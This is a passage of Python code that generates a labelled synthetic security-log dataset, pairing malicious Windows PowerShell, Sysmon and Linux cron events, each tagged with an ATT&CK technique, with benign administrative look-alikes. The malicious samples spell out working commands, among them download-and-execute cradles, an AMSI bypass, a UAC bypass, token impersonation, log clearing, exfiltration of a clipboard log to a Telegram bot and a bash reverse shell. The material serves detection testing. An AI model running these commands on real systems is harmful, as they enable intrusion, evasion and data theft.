  "ImageLoaded": "C:\\Users\\w.lindqvist\\AppData\\Local\\Microsoft\\Teams\\current\\CRYPTSP.dll", "FileVersion": "-", "Description": "-", "Product": "-", "Company": "-",
  "OriginalFileName": "-", "Hashes": "SHA256=9E1F0B7C2D4A6E8F0A1B3C5D7E9F1A3B5C7D9E1F3A5B7C9D1E3F5A7B9C1D3E5F", "Signed": "false", "Signature": "-", "SignatureStatus": "Unavailable",
  "User": "RVM\\w.lindqvist"}, 610201, task=7),
  "T1574.001", "unsigned CRYPTSP.dll loaded from the Teams directory instead of System32 - DLL search-order hijack")
B(S, sx(7, C4, T(24, 9, 0, 0, 7), {"ProcessGuid": guid(33), "ProcessId": "5601", "Image": "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
  "ImageLoaded": "C:\\Program Files\\Microsoft Office\\root\\vfs\\ProgramFilesCommonX64\\Microsoft Shared\\OFFICE16\\mso20win32client.dll", "FileVersion": "16.0.18129.20158", "Description": "Microsoft Office 2016 component", "Product": "Microsoft Office", "Company": "Microsoft Corporation",
  "OriginalFileName": "mso20win32client.dll", "Hashes": "SHA256=-", "Signed": "true", "Signature": "Microsoft Corporation", "SignatureStatus": "Valid",
  "User": "RVM\\w.lindqvist"}, 610260, task=7), "signed Office library load")
B(S, secs(C4, T(24, 9, 5, 10, 5), 34, PSH, "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -ExecutionPolicy Bypass -Command \"& 'C:\\Windows\\CCM\\SystemTemp\\8f0e2c1d-6b3a-4e77-a1d0-cc19e4b2a7f1.ps1'\"",
  "NT AUTHORITY\\SYSTEM", "C:\\Windows\\CCM\\CcmExec.exe", "C:\\Windows\\CCM\\CcmExec.exe", integrity="System", orig="PowerShell.EXE"),
  "SCCM compliance script, ExecutionPolicy Bypass from CcmExec")
B(S, secs(C2, T(24, 9, 7, 1, 3), 35, PSH, "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -executionPolicy bypass -file \"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\41b9d2e0-3a7c-4d1f-8e22-0b6f1c9a5e43_2.ps1\"",
  "NT AUTHORITY\\SYSTEM", "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\AgentExecutor.exe", "AgentExecutor.exe -powershell", integrity="System", orig="PowerShell.EXE"),
  "Intune remediation script")
B(S, sx(1, C3, T(24, 22, 0, 2, 1), proc(C3, None, 36, "C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe create shadow /for=D: /autoretry=3",
  "NT AUTHORITY\\SYSTEM", "C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe", "\"C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe\"", integrity="System", orig="VSSADMIN.EXE"), 630300),
  "Veeam agent creating a shadow copy for the backup")
B(S, sx(1, C4, T(24, 11, 3, 0, 2), proc(C4, None, 37, "C:\\Windows\\System32\\ipconfig.exe", "ipconfig /flushdns", "RVM\\w.lindqvist", CMD, "\"C:\\Windows\\system32\\cmd.exe\" ", orig="ipconfig.exe"), 610300),
  "user flushing DNS after a VPN reconnect")
B(S, secs(C4, T(24, 11, 10, 0, 2), 38, "C:\\Windows\\System32\\whoami.exe", "whoami /upn", "RVM\\w.lindqvist", CMD, "cmd.exe", orig="whoami.exe"),
  "user checking her UPN while on a helpdesk call")
B(S, secs(C3, T(24, 13, 0, 0, 2), 39, "C:\\Program Files\\Tenable\\Nessus Agent\\nessusd.exe", "\"C:\\Program Files\\Tenable\\Nessus Agent\\nessusd.exe\" -q", "NT AUTHORITY\\SYSTEM",
  "C:\\Program Files\\Tenable\\Nessus Agent\\nessus-service.exe", "\"C:\\Program Files\\Tenable\\Nessus Agent\\nessus-service.exe\"", orig="nessusd.exe", integrity="System"),
  "approved Tenable agent scan engine starting")
B(S, sx(1, C3, T(24, 13, 1, 30, 5), proc(C3, None, 40, "C:\\Windows\\System32\\net.exe", "net.exe localgroup administrators", "NT AUTHORITY\\SYSTEM",
  "C:\\Program Files\\Tenable\\Nessus Agent\\nessusd.exe", "\"C:\\Program Files\\Tenable\\Nessus Agent\\nessusd.exe\" -q", integrity="System", orig="net.exe"), 630400),
  "local admin enumeration by the approved Nessus agent compliance audit")
B(S, sx(13, C3, T(24, 14, 2, 0, 5), {"EventType": "SetValue", "ProcessGuid": guid(41), "ProcessId": "1180", "Image": "C:\\Windows\\system32\\svchost.exe",
  "TargetObject": "HKLM\\System\\CurrentControlSet\\Services\\W32Time\\Config\\LastKnownGoodTime", "Details": "QWORD (0x01dc5c1f-0x9a2e4b10)", "User": "NT AUTHORITY\\LOCAL SERVICE"}, 630410, task=13),
  "time service bookkeeping")
B(S, sx(3, C3, T(24, 22, 15, 0, 1), {"ProcessGuid": guid(42), "ProcessId": "3012", "Image": "C:\\Program Files (x86)\\Veeam\\Backup Transport\\x64\\VeeamAgent.exe", "User": "NT AUTHORITY\\SYSTEM",
  "Protocol": "tcp", "Initiated": "true", "SourceIsIpv6": "false", "SourceIp": "10.212.8.20", "SourceHostname": "RVM-FS-01.rvm.internal", "SourcePort": "52001", "SourcePortName": "-",
  "DestinationIsIpv6": "false", "DestinationIp": "10.212.8.15", "DestinationHostname": "RVM-VBR-01.rvm.internal", "DestinationPort": "2500", "DestinationPortName": "-"}, 630420, task=3),
  "Veeam data mover to the backup repository")
B(S, secs(C2, T(25, 8, 30, 0, 1), 43, "C:\\Program Files\\Git\\cmd\\git.exe", "git.exe clone https://git.rvm.internal/platform/terraform-modules.git", "RVM\\s.quinlan",
  "C:\\Program Files\\Microsoft VS Code\\Code.exe", "\"C:\\Program Files\\Microsoft VS Code\\Code.exe\"", cwd="C:\\Users\\s.quinlan\\src\\", orig="git.exe"),
  "developer cloning an internal repository")
B(S, sx(1, C2, T(25, 8, 40, 0, 1), proc(C2, None, 44, "C:\\Windows\\System32\\certutil.exe", "certutil -hashfile C:\\Users\\s.quinlan\\Downloads\\terraform_1.9.8_windows_amd64.zip SHA256",
  "RVM\\s.quinlan", CMD, "cmd.exe", orig="CertUtil.exe"), 620500), "certutil used only to hash a download")
B(S, sx(1, C4, T(25, 9, 15, 0, 1), proc(C4, None, 45, "C:\\Windows\\System32\\schtasks.exe", "schtasks /query /tn \"\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan\" /v /fo list",
  "RVM\\adm-t.okonkwo", CMD, "cmd.exe", orig="schtasks.exe", integrity="High"), 610400), "admin reviewing a Windows Update task")
B(S, secs(C4, T(25, 9, 20, 0, 1), 46, "C:\\Windows\\System32\\rundll32.exe", "\"C:\\Windows\\system32\\rundll32.exe\" C:\\Windows\\system32\\shell32.dll,Control_RunDLL C:\\Windows\\system32\\desk.cpl,,0",
  "RVM\\w.lindqvist", EXP, "C:\\Windows\\Explorer.EXE", orig="RUNDLL32.EXE"), "opening display settings from the control panel")
B(S, sx(22, C3, T(25, 22, 0, 0, 1), {"ProcessGuid": guid(47), "ProcessId": "3012", "QueryName": "rvm-vbr-01.rvm.internal", "QueryStatus": "0",
  "QueryResults": "::ffff:10.212.8.15;", "Image": "C:\\Program Files (x86)\\Veeam\\Backup Transport\\x64\\VeeamAgent.exe", "User": "NT AUTHORITY\\SYSTEM"}, 630500, task=22),
  "backup agent resolving the backup server")
# ---------------------------------------------------------------- powershell
S = "powershell"
PS_GUID = "{a0c1853b-5c40-4b15-8766-3cf1c58f985a}"


def sb(comp, t, rec, text, sid, path="", user_sid="S-1-5-21-3308419210-1822710947-255119034-3310", level=5, n=1, of=1):
    x = winxml(4104, comp, t, {"MessageNumber": str(n), "MessageTotal": str(of), "ScriptBlockText": text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("\n", "&#10;"),
               "ScriptBlockId": sid, "Path": path}, rec, provider="Microsoft-Windows-PowerShell", guid=PS_GUID,
               channel="Microsoft-Windows-PowerShell/Operational", task=2, kw="0x0", ver=1, pid=6612, tid=7040, level=level)
    return x.replace("<Security/>", f"<Security UserID='{user_sid}'/>")


def sb_ecs(comp, t, text, sid, user, path=None, level="warning"):
    o = {"@timestamp": iso(t), "event": {"code": "4104", "provider": "Microsoft-Windows-PowerShell", "module": "powershell", "kind": "event",
         "category": ["process"]}, "host": {"name": comp.lower()}, "log": {"level": level},
         "powershell": {"file": {"script_block_id": sid, "script_block_text": text}, "sequence": 1, "total": 1},
         "user": {"name": user, "domain": "RVM"}, "winlog": {"channel": "Microsoft-Windows-PowerShell/Operational", "event_id": "4104", "computer_name": comp}}
    if path:
        o["file"] = {"path": path}
    return J(o)


def ps800(comp, t, rec, hostapp, pipeline, user="RVM\\r.iyer"):
    ctx = (f"        Severity = Informational\r\n        Host Name = ConsoleHost\r\n        Host Version = 5.1.22621.4391\r\n        Host ID = 1c2f0d7e-5a3b-4e11-9c0d-8e7f6a5b4c3d\r\n"
           f"        Host Application = {hostapp}\r\n        Engine Version = 5.1.22621.4391\r\n        Runspace ID = 0e9a1b2c-3d4e-4f50-8a61-7b8c9d0e1f20\r\n        Pipeline ID = 1\r\n"
           f"        Command Name = \r\n        Command Type = \r\n        Script Name = \r\n        Command Path = \r\n        Sequence Number = 15\r\n        User = {user}\r\n        Connected User = \r\n        Shell ID = Microsoft.PowerShell\r\n")
    msg = f"Pipeline execution details for command line: {pipeline} . Context Information: " + " ".join(ctx.replace("\r\n", " ").split())
    return splunk_win(t, 800, comp, rec, "Pipeline Execution Details", msg, kw="Classic", logname="Windows PowerShell", srcname="PowerShell", etype=4)


def ps4103(comp, t, rec, cmdname, params, hostapp, user="RVM\\r.iyer"):
    payload = " ".join(f"CommandInvocation({cmdname}): \"{cmdname}\" ParameterBinding({cmdname}): name=\"{k}\"; value=\"{v}\"" for k, v in params)
    return nxlog(t, comp, 4103, rec, {"ContextInfo": f"Severity = Informational Host Name = ConsoleHost Host Version = 5.1.19041.5247 Host Application = {hostapp} Engine Version = 5.1.19041.5247 Command Name = {cmdname} Command Type = Cmdlet User = {user} Shell ID = Microsoft.PowerShell",
                 "Payload": payload, "UserID": "S-1-5-21-3308419210-1822710947-255119034-3310"},
                 f"CommandInvocation({cmdname}): \"{cmdname}\"", etype="INFO", src="Microsoft-Windows-PowerShell", channel="Microsoft-Windows-PowerShell/Operational", task=106)


M(S, sb(C1, T(23, 2, 58, 6, 100), 90011, "$u='ht'+'tps://files-cdn.dropmeafile.net/a/';iwr ($u+'k.ps1')|i`e`x", "{7d1e0a2b-4c3f-4e55-9a10-2b3c4d5e6f70}", level=3),
  "T1059.001", "string-split URL piped to backtick-obfuscated iex - download cradle")
M(S, sb(C1, T(23, 2, 58, 7, 3), 90012, "$a=[Ref].Assembly.GetType('System.Management.Automation.'+[char]65+'msiUtils');$a.GetField('amsi'+'InitFailed','NonPublic,Static').SetValue($null,$true)", "{0c2a4e6f-8a1b-4c3d-9e5f-6a7b8c9d0e1f}", level=3),
  "T1562.001", "AMSI disabled via reflection on amsiInitFailed with char-built type name")
M(S, sb_ecs(C1, T(23, 2, 58, 9), "$k=New-Object System.Net.WebClient;$k.Headers.Add('User-Agent','Mozilla/5.0 (Windows NT 10.0; Win64; x64)');$b=$k.('Down'+'loadData')('https://files-cdn.dropmeafile.net/a/p.bin');$m=[System.Reflection.Assembly]::Load($b);$m.EntryPoint.Invoke($null,(,[string[]]@()))",
  "{5b6c7d8e-9f0a-4b1c-8d2e-3f4a5b6c7d8e}", "r.iyer"),
  "T1620", "downloaded bytes loaded with Assembly.Load and invoked in memory - reflective code loading")
M(S, sb(C1, T(23, 3, 1, 0, 9), 90020, "Get-ADUser -Filter {ServicePrincipalName -like '*'} -Properties ServicePrincipalName,PasswordLastSet | ?{$_.Enabled} | %{ Add-Type -AssemblyName System.IdentityModel; New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList $_.ServicePrincipalName[0] }",
  "{1a2b3c4d-5e6f-4a70-8b91-c2d3e4f5a6b7}", level=3),
  "T1558.003", "requests service tickets for every SPN account - Kerberoasting from PowerShell")
M(S, ps4103(C1, T(23, 3, 5, 1), 90030, "Set-MpPreference", [("DisableRealtimeMonitoring", "True"), ("ExclusionPath", "C:\\Users\\r.iyer\\AppData")],
  "powershell.exe -ep bypass"), "T1562.001", "module log: real-time protection off and an AppData exclusion")
M(S, sb(C1, T(23, 3, 9, 40), 90040, "$s=New-Object -ComObject Schedule.Service;$s.Connect();$d=$s.NewTask(0);$d.Settings.Hidden=$true;$a=$d.Actions.Create(0);$a.Path='C:\\Windows\\System32\\conhost.exe';$a.Arguments='--headless powershell -w h -ep bypass -c \"iex(gc $env:APPDATA\\Microsoft\\wdi.dat -raw)\"';$t=$d.Triggers.Create(9);$s.GetFolder('\\Microsoft\\Windows\\WDI').RegisterTaskDefinition('SrvHost',$d,6,$null,$null,3)",
  "{3c4d5e6f-7a8b-4c9d-8e0f-1a2b3c4d5e6f}", level=3),
  "T1053.005", "hidden logon task registered through the Schedule.Service COM API")
M(S, sb_ecs(C2, T(23, 3, 36, 0), "$f=Get-WmiObject -Namespace root\\subscription -Class __EventFilter -Arguments @{};Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{Name='SysHealth';EventNameSpace='root\\cimv2';QueryLanguage='WQL';Query=\"SELECT * FROM __InstanceModificationEvent WITHIN 300 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'\"};Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsumer -Arguments @{Name='SysHealth';CommandLineTemplate='C:\\ProgramData\\Intel\\igfxtray.exe'}",
  "{6e7f8a9b-0c1d-4e2f-9a3b-4c5d6e7f8a9b}", "s.quinlan"),
  "T1546.003", "WMI event filter and command-line consumer created - WMI subscription persistence")
M(S, sb(C2, T(23, 3, 36, 50), 90050, "&([scriptblock]::Create(($env:ComSpec[4,15,25]-join'')+' '+[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('SW52b2tlLVdlYlJlcXVlc3QgaHR0cHM6Ly9yYXcuZ2l0aHVidXNlcmNvbnRlbnQtdXNlcmNkbi5jb20vbXMvci5wczEgLVVzZUJhc2ljUGFyc2luZw=='))))",
  "{8a9b0c1d-2e3f-4a5b-9c6d-7e8f9a0b1c2d}", user_sid="S-1-5-21-3308419210-1822710947-255119034-5122", level=3),
  "T1027.010", "iex rebuilt from $env:ComSpec characters plus a base64 command - command obfuscation")
M(S, sb(C2, T(23, 3, 39, 0), 90051, "Get-DomainComputer -Properties dnshostname,operatingsystem -LDAPFilter '(operatingsystem=*server*)' | Export-Csv C:\\ProgramData\\Intel\\srv.csv -NoType; Find-LocalAdminAccess -Threads 20",
  "{9b0c1d2e-3f4a-4b5c-8d6e-7f8a9b0c1d2e}", user_sid="S-1-5-21-3308419210-1822710947-255119034-5122", level=3),
  "T1018", "PowerView server enumeration and local-admin hunting")
M(S, ps800(C2, T(23, 3, 41, 5), 40150, "powershell.exe -NoP -NonI -W Hidden -EncodedCommand " + ps_enc("Invoke-Command -ComputerName RVM-SQL-07,RVM-FS-01 -ScriptBlock { C:\\ProgramData\\Intel\\igfxtray.exe }"),
  "Invoke-Command -ComputerName RVM-SQL-07,RVM-FS-01 -ScriptBlock { C:\\ProgramData\\Intel\\igfxtray.exe }", user="RVM\\s.quinlan"),
  "T1021.006", "Invoke-Command over WinRM to two servers running the implant")
M(S, sb_ecs(C3, T(23, 4, 35, 2), "Get-ChildItem -Path D:\\Shares -Recurse -Include *.xlsx,*.docx,*.pdf -ErrorAction SilentlyContinue | ?{$_.LastWriteTime -gt (Get-Date).AddDays(-90)} | Copy-Item -Destination C:\\PerfLogs\\bk\\",
  "{0d1e2f3a-4b5c-4d6e-9f7a-8b9c0d1e2f3a}", "k.haddad"),
  "T1039", "bulk copy of recent office files from the network shares into a staging folder")
M(S, sb(C3, T(23, 4, 48, 0), 90060, "Get-WmiObject Win32_Shadowcopy | ForEach-Object { $_.Delete() }; bcdedit /set '{default}' recoveryenabled No",
  "{1e2f3a4b-5c6d-4e7f-8a9b-0c1d2e3f4a5b}", user_sid="S-1-5-21-3308419210-1822710947-255119034-4471", level=3),
  "T1490", "shadow copies deleted through WMI and recovery disabled")
M(S, sb(C4, T(24, 1, 30, 0), 90100, "$p=Get-Process -Name winlogon|select -f 1;$h=[Kernel32]::OpenProcess(0x400,$false,$p.Id);[Advapi32]::OpenProcessToken($h,0x0E,[ref]$t);[Advapi32]::DuplicateTokenEx($t,0x02000000,[IntPtr]::Zero,2,1,[ref]$d);[Advapi32]::ImpersonateLoggedOnUser($d)",
  "{2f3a4b5c-6d7e-4f8a-9b0c-1d2e3f4a5b6c}", user_sid="S-1-5-21-3308419210-1822710947-255119034-2207", level=3),
  "T1134.001", "duplicates winlogon's token and impersonates it - SYSTEM via token impersonation")
M(S, sb_ecs(C4, T(24, 1, 33, 12), "Add-Type -A System.Windows.Forms;$b=New-Object Drawing.Bitmap([Windows.Forms.Screen]::PrimaryScreen.Bounds.Width,[Windows.Forms.Screen]::PrimaryScreen.Bounds.Height);[Drawing.Graphics]::FromImage($b).CopyFromScreen(0,0,0,0,$b.Size);$b.Save(\"$env:TEMP\\s$(Get-Random).png\")",
  "{3a4b5c6d-7e8f-4a9b-8c0d-1e2f3a4b5c6d}", "w.lindqvist"),
  "T1113", "screen captured to Temp with CopyFromScreen")
M(S, ps4103(C4, T(24, 1, 35, 0), 90110, "Get-Clipboard", [("Format", "Text"), ("Raw", "True")], "powershell.exe -w 1 -nop -c while($true){Get-Clipboard -Raw >> $env:TEMP\\cb.log;sleep 5}", user="RVM\\w.lindqvist"),
  "T1115", "hidden loop harvesting clipboard text every five seconds")
M(S, sb(C4, T(24, 1, 40, 0), 90120, "$r=Invoke-RestMethod -Uri 'https://api.telegram.org/bot/sendDocument' -Method Post -Form @{chat_id='-100288'; document=Get-Item \"$env:TEMP\\cb.log\"}",
  "{4b5c6d7e-8f9a-4b0c-9d1e-2f3a4b5c6d7e}", user_sid="S-1-5-21-3308419210-1822710947-255119034-2207", level=3),
  "T1567", "harvested clipboard log posted to a Telegram bot - exfiltration over a web service")
M(S, sb_ecs(C4, T(24, 1, 42, 0), "New-ItemProperty -Path 'HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command' -Name DelegateExecute -Value '' -Force; Set-ItemProperty 'HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command' -Name '(default)' -Value 'C:\\Users\\Public\\Libraries\\tv_x64.exe'; Start-Process fodhelper.exe -WindowStyle Hidden",
  "{5c6d7e8f-9a0b-4c1d-8e2f-3a4b5c6d7e8f}", "w.lindqvist"),
  "T1548.002", "ms-settings handler hijack then fodhelper - UAC bypass")
M(S, ps800(C4, T(24, 1, 50, 3), 40300, "pOwErShElL -WiNdOwStYlE hIdDeN -c \"sal n New-Object;iex(n IO.StreamReader((n IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('bY5BC8IwDIX/SsHbg1U9Dcb0UqhMGGi2X9CyNZOOLEkTZrEH/7uto6CIt+R7ec9bHkBrmnWmVFHRRVJG'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()\"",
  "sal n New-Object;iex(n IO.StreamReader(...DeflateStream...).ReadToEnd()", user="RVM\\w.lindqvist"),
  "T1140", "mixed-case hidden PowerShell inflating a deflate+base64 blob and running it - deobfuscate/decode at run time")
M(S, sb(C3, T(24, 2, 5, 0), 90130, "Get-ChildItem 'HKLM:\\SYSTEM\\CurrentControlSet\\Services\\EventLog' | %{ wevtutil cl $_.PSChildName }; Remove-Item -Path C:\\Windows\\System32\\winevt\\Logs\\Microsoft-Windows-PowerShell%4Operational.evtx -Force -ErrorAction 0",
  "{6d7e8f9a-0b1c-4d2e-9f3a-4b5c6d7e8f9a}", user_sid="S-1-5-21-3308419210-1822710947-255119034-4471", level=3),
  "T1070.001", "clears every event log channel and deletes the PowerShell log file")
M(S, sb_ecs(C3, T(24, 2, 9, 0), "$n=New-Object System.Net.Sockets.TcpClient;foreach($h in 1..254){foreach($p in 22,445,3389,5985){ if($n.ConnectAsync(\"10.212.8.$h\",$p).Wait(80)){\"10.212.8.$h:$p\"};$n.Dispose();$n=New-Object System.Net.Sockets.TcpClient }}",
  "{7e8f9a0b-1c2d-4e3f-8a4b-5c6d7e8f9a0b}", "k.haddad"),
  "T1046", "TCP connect sweep of the server subnet for SSH/SMB/RDP/WinRM in a script block")
# benign
B(S, ps800(C4, T(24, 9, 5, 11), 40400, "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -ExecutionPolicy Bypass -Command \"& 'C:\\Windows\\CCM\\SystemTemp\\8f0e2c1d-6b3a-4e77-a1d0-cc19e4b2a7f1.ps1'\"",
  "Get-ItemProperty HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\* | Select DisplayName,DisplayVersion", user="NT AUTHORITY\\SYSTEM"),
  "SCCM baseline script under ExecutionPolicy Bypass inventorying installed software")
B(S, sb(C2, T(24, 9, 7, 2), 90200, "# Remediation: ensure BitLocker recovery key is escrowed\n$v = Get-BitLockerVolume -MountPoint $env:SystemDrive\n$kp = $v.KeyProtector | ? KeyProtectorType -eq 'RecoveryPassword'\nif ($kp) { BackupToAAD-BitLockerKeyProtector -MountPoint $env:SystemDrive -KeyProtectorId $kp.KeyProtectorId; exit 0 } else { exit 1 }",
  "{9a0b1c2d-3e4f-4a5b-8c6d-7e8f9a0b1c2d}", path="C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\41b9d2e0-3a7c-4d1f-8e22-0b6f1c9a5e43_2.ps1", user_sid="S-1-5-18"),
  "Intune remediation escrowing the BitLocker recovery key to Entra ID")
B(S, sb_ecs(C3, T(24, 9, 30, 0), "Get-SmbShare | Select Name,Path,Description; Get-SmbShareAccess -Name Finance", "{0b1c2d3e-4f5a-4b6c-9d7e-8f9a0b1c2d3e}", "adm-t.okonkwo", level="verbose"),
  "storage admin reviewing share permissions")
B(S, ps4103(C3, T(24, 9, 31, 0), 90210, "Get-ADGroupMember", [("Identity", "Domain Admins"), ("Recursive", "True")], "powershell_ise.exe", user="RVM\\adm-t.okonkwo"),
  "quarterly privileged-access review run by an admin from ISE")
B(S, sb(C4, T(24, 10, 0, 0), 90220, "Import-Module 'C:\\Program Files\\WindowsPowerShell\\Modules\\PSWindowsUpdate\\2.2.1.5\\PSWindowsUpdate.psd1'; Get-WindowsUpdate -MicrosoftUpdate -AcceptAll -Install -IgnoreReboot | Out-File C:\\Windows\\Logs\\pswu.log",
  "{1c2d3e4f-5a6b-4c7d-8e8f-9a0b1c2d3e4f}", path="C:\\Program Files\\RVM\\Patch\\Invoke-Patching.ps1", user_sid="S-1-5-18"),
  "scheduled patching script from the admin scripts path")
B(S, ps800(C3, T(24, 22, 0, 4), 40410, "powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\Backup\\Start-WsbJob.ps1", "wbadmin start backup -backupTarget:\\\\rvm-nas-02\\wsb$ -include:D: -vssFull -quiet", user="RVM\\svc_wbackup"),
  "backup wrapper script from the admin scripts folder")
B(S, sb_ecs(C2, T(25, 8, 31, 0), "Set-Location C:\\Users\\s.quinlan\\src\\terraform-modules; terraform fmt -recursive; git status", "{2d3e4f5a-6b7c-4d8e-9f9a-0b1c2d3e4f5a}", "s.quinlan", level="verbose"),
  "developer formatting Terraform")
B(S, sb(C2, T(25, 8, 35, 0), 90300, "prompt", "{3e4f5a6b-7c8d-4e9f-8a0b-1c2d3e4f5a6b}", user_sid="S-1-5-21-3308419210-1822710947-255119034-5122", level=5),
  "the console prompt function logged as a script block")
B(S, sb_ecs(C4, T(25, 9, 2, 0), "Test-NetConnection -ComputerName rvm-vpn.ravenmoor.eu -Port 443 -InformationLevel Detailed", "{4f5a6b7c-8d9e-4f0a-9b1c-2d3e4f5a6b7c}", "w.lindqvist", level="verbose"),
  "user testing VPN reachability while on the phone to IT")
B(S, ps4103(C4, T(25, 9, 20, 0), 90310, "Invoke-WebRequest", [("Uri", "https://www.powershellgallery.com/api/v2/package/Microsoft.Graph.Authentication/2.25.0"), ("OutFile", "C:\\Temp\\mga.nupkg")],
  "pwsh.exe", user="RVM\\adm-t.okonkwo"), "admin downloading a Microsoft Graph module from the PowerShell Gallery")
B(S, sb(C3, T(25, 10, 0, 0), 90320, "Get-WinEvent -FilterHashtable @{LogName='Security';Id=4625;StartTime=(Get-Date).AddDays(-1)} | Group-Object {$_.Properties[5].Value} | Sort Count -Desc | Select -First 10",
  "{5a6b7c8d-9e0f-4a1b-8c2d-3e4f5a6b7c8d}", user_sid="S-1-5-21-3308419210-1822710947-255119034-6001", level=5),
  "SOC analyst summarising yesterday's failed logons")
B(S, sb_ecs(C3, T(25, 10, 5, 0), "Get-CimInstance Win32_ShadowCopy | Select InstallDate,VolumeName,DeviceObject | Format-Table -Auto", "{6b7c8d9e-0f1a-4b2c-9d3e-4f5a6b7c8d9e}", "adm-t.okonkwo", level="verbose"),
  "admin listing shadow copies (read only) after the restore request")
B(S, ps800(C2, T(25, 11, 0, 0), 40500, "\"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\AgentExecutor.exe\" -powershell -ExecutionPolicy Bypass -NoProfile -File \"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\c0ffee12-3b4a-4d5e-8f60-718293a4b5c6_1.ps1\"",
  "Get-Printer | ? Name -like 'RVM-PRN*' | Remove-Printer", user="NT AUTHORITY\\SYSTEM"),
  "Intune script removing retired printers, ExecutionPolicy Bypass")
B(S, sb(C4, T(25, 11, 30, 0), 90330, "$cred = Get-Credential -UserName 'RVM\\adm-t.okonkwo' -Message 'Tier-1'; Enter-PSSession -ComputerName RVM-SQL-07 -Credential $cred",
  "{7c8d9e0f-1a2b-4c3d-8e4f-5a6b7c8d9e0f}", user_sid="S-1-5-21-3308419210-1822710947-255119034-2210", level=5),
  "admin opening an interactive remoting session from the admin workstation")
B(S, sb_ecs(C1, T(25, 12, 0, 0), "Connect-ExchangeOnline -UserPrincipalName adm-t.okonkwo@ravenmoor.eu -ShowBanner:$false; Get-Mailbox -ResultSize 20 | Select DisplayName,PrimarySmtpAddress", "{8d9e0f1a-2b3c-4d4e-9f5a-6b7c8d9e0f1a}", "adm-t.okonkwo", level="verbose"),
  "Exchange Online admin query")
B(S, sb(C3, T(25, 12, 30, 0), 90340, "Get-Process | Sort-Object CPU -Descending | Select-Object -First 15 Name,Id,CPU,WS",
  "{9e0f1a2b-3c4d-4e5f-8a6b-7c8d9e0f1a2b}", user_sid="S-1-5-21-3308419210-1822710947-255119034-6120", level=5),
  "checking what is eating CPU")
B(S, ps4103(C2, T(25, 13, 0, 0), 90350, "Start-Process", [("FilePath", "C:\\Windows\\CCM\\ClientUX\\SCClient.exe"), ("ArgumentList", "softwarecenter:Page=AvailableSoftware")], "powershell.exe -ExecutionPolicy Bypass -File C:\\Windows\\CCM\\SystemTemp\\open-sc.ps1", user="RVM\\s.quinlan"),
  "opening Software Center from an SCCM helper script")
B(S, sb_ecs(C4, T(25, 14, 0, 0), "Invoke-Sqlcmd -ServerInstance RVM-SQL-07 -Database Reporting -Query \"SELECT TOP 50 OrderId, Status FROM dbo.Shipments WHERE Status = 'HOLD' OR Status = 'LATE' UNION ALL SELECT 0,'--'\"",
  "{0f1a2b3c-4d5e-4f6a-9b7c-8d9e0f1a2b3c}", "w.lindqvist", level="verbose"),
  "report query with OR and UNION run by an analyst - not injection")
# ---------------------------------------------------------------- linux-syslog
S = "linux-syslog"


def r5424(t, host, app, pid, msg, pri=30, msgid="-", sd="-"):
    return f"<{pri}>1 {iso(t, 6)[:-1]}+00:00 {host} {app} {pid} {msgid} {sd} {msg}"


def r3164(t, host, tag, msg, pri=None):
    p = f"<{pri}>" if pri is not None else ""
    return f"{p}{b3164(t)} {host} {tag}: {msg}"


def jd(t, host, unit, ident, pid, msg, uid=0, prio=6, comm=None, exe=None, cmdline=None):
    o = {"__REALTIME_TIMESTAMP": str(int(t.timestamp() * 1e6)), "_HOSTNAME": host, "PRIORITY": str(prio), "SYSLOG_FACILITY": "3",
         "SYSLOG_IDENTIFIER": ident, "_PID": str(pid), "_UID": str(uid), "_SYSTEMD_UNIT": unit, "_TRANSPORT": "syslog" if unit.endswith("scope") else "journal",
         "MESSAGE": msg, "_BOOT_ID": "7c1d2e3f4a5b46c7d8e9f0a1b2c3d4e5", "_MACHINE_ID": "a1b2c3d4e5f6478890a1b2c3d4e5f607"}
    if comm:
        o["_COMM"] = comm
    if exe:
        o["_EXE"] = exe
    if cmdline:
        o["_CMDLINE"] = cmdline
    return J(o)


H1, H2, H3, H4 = "ingest-bx-03", "pay-gw-02", "bastion-fra-1", "tms-app-11"
M(S, r3164(T(23, 1, 2, 0), H1, "CRON[22810]", "(www-data) CMD (/bin/bash -c 'bash -i >& /dev/tcp/179.43.151.12/4444 0>&1')", pri=78),
  "T1053.003", "cron entry in the web user's crontab opening a reverse shell")
M(S, r5424(T(23, 1, 2, 30, 1), H1, "crontab", 22830, "(www-data) REPLACE (www-data)", pri=78),
  "T1053.003", "the web-server account replaced its own crontab - persistence after web-shell access")
B(S, r5424(T(23, 1, 5, 0, 1), H1, "CRON", 22900, "(root) CMD (  /usr/lib/sysstat/debian-sa1 1 1)", pri=78), "sysstat collection job")
B(S, r3164(T(23, 2, 0, 1), H1, "CRON[23000]", "(backup) CMD (/usr/local/bin/borg-nightly.sh >> /var/log/borg/nightly.log 2>&1)"),
  "nightly borg backup job of the backup user")
